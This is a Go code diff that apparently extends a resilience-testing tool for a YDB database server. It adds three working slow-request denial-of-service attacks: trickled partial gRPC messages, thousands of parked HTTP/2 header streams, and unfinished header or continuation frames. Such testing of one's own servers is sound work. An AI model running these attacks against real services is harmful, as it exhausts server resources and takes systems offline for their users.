@@ -9,6 +9,7 @@ import (
 	"io"
 	"net"
 	"strings"
+	"sync/atomic"
 	"time"
 
 	"github.com/ydb-platform/ydb-go-genproto/protos/Ydb_Query"
@@ -46,6 +47,9 @@ var Attacks = []Attack{
 	{"long-texts", "statements of 200 KB that are full of `temp/*`", func(ctx context.Context, a *attacker) {
 		a.bombs(ctx, queryService+"ExecuteQuery", a.Ticket, message(statement(strings.Repeat("temp/*", 33_000))))
 	}},
+	{"small-holders", "Execute of the plain gRPC API, requests that stop after 15.9 KB and then get a byte every four seconds, 4,000 on each of 2 connections", smallHolders},
+	{"parked-headers", "bare headers of calls that wait for a message, 4,000 on each of 10 connections, again as soon as they end", parkedHeaders},
+	{"unfinished-headers", "connections that stop within 60 KB of headers, or within a frame of 16 KB; 2,000 of them", unfinishedHeaders},
 	{"parts-of-messages", "messages of 1 MB that stop before their last byte, 100 on each of 20 connections", partsOfMessages},
 	{"sessions-of-nobody", "CreateSession of both services without a ticket", func(ctx context.Context, a *attacker) { a.sessions(ctx, "") }},
 	{"sessions", "the same with a ticket", func(ctx context.Context, a *attacker) { a.sessions(ctx, a.Ticket) }},
@@ -169,6 +173,96 @@ func partsOfMessages(ctx context.Context, a *attacker) {
 		}
 		rest(ctx, 10*time.Second)
 		return errClosed
+	})
+}
+
+// smallHolders begins messages that it never ends, each no longer than a frame.
+func smallHolders(ctx context.Context, a *attacker) {
+	part := framed(0, make([]byte, 1<<20))[:15_900]
+	a.onPeers(ctx, 2, true, func(ctx context.Context, p *peer) error {
+		ids := make([]uint32, 4000)
+		for ctx.Err() == nil {
+			for i := range ids {
+				if err := p.more(ctx, &ids[i], part, call(plainService+"Execute", "")); err != nil {
+					return err
+				}
+				a.pace(ctx)
+			}
+			rest(ctx, 4*time.Second)
+		}
+		return nil
+	})
+}
+
+// more sends another byte of a call, or the start of it anew if it has ended.
+func (p *peer) more(ctx context.Context, id *uint32, start []byte, fields []string) error {
+	limited, cancel := context.WithTimeout(ctx, 5*time.Second)
+	defer cancel()
+	if *id > 0 && p.send(limited, *id, []byte{0}, false) == nil {
+		return nil
+	}
+	var err error
+	if *id, err = p.open(false, fields...); err != nil {
+		return err
+	}
+	_ = p.send(limited, *id, start, false) // refused: it is begun anew
+	return nil
+}
+
+// parkedHeaders keeps as many calls open as one connection may have.
+func parkedHeaders(ctx context.Context, a *attacker) {
+	fields := call(queryService+"ExecuteQuery", a.Ticket)
+	a.onPeers(ctx, 10, true, func(ctx context.Context, p *peer) error {
+		p.mu.Lock()
+		open := len(p.windows)
+		p.mu.Unlock()
+		if open >= 4000 {
+			rest(ctx, 10*time.Millisecond)
+			return nil
+		}
+		_, err := p.open(false, fields...)
+		return err
+	})
+}
+
+// unfinishedHeaders stops where what it sent has to be kept.
+func unfinishedHeaders(ctx context.Context, a *attacker) {
+	var turn atomic.Int64
+	a.onPeers(ctx, 2000, true, func(ctx context.Context, p *peer) error {
+		inFrame := turn.Add(1)%2 == 0
+		err := p.write(func(f *http2.Framer) error {
+			if inFrame {
+				whole := append([]byte{0, 0x40, 0, 0xee, 0, 0, 0, 0, 0}, make([]byte, maxFrame)...) // of no known type
+				_, err := p.conn.Write(whole[:maxFrame-10])
+				return err
+			}
+			if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: p.next, BlockFragment: make([]byte, 15_000)}); err != nil {
+				return err
+			}
+			for range 3 {
+				if err := f.WriteContinuation(p.next, false, make([]byte, 15_000)); err != nil {
+					return err
+				}
+			}
+			return nil
+		})
+		if err != nil {
+			return err
+		}
+		for ctx.Err() == nil {
+			rest(ctx, 4*time.Second)
+			select {
+			case <-p.gone:
+				return errClosed
+			default:
+			}
+			if inFrame { // it is not silent
+				if _, err := p.conn.Write([]byte{0}); err != nil {
+					return err
+				}
+			}
+		}
+		return nil
 	})
 }
 
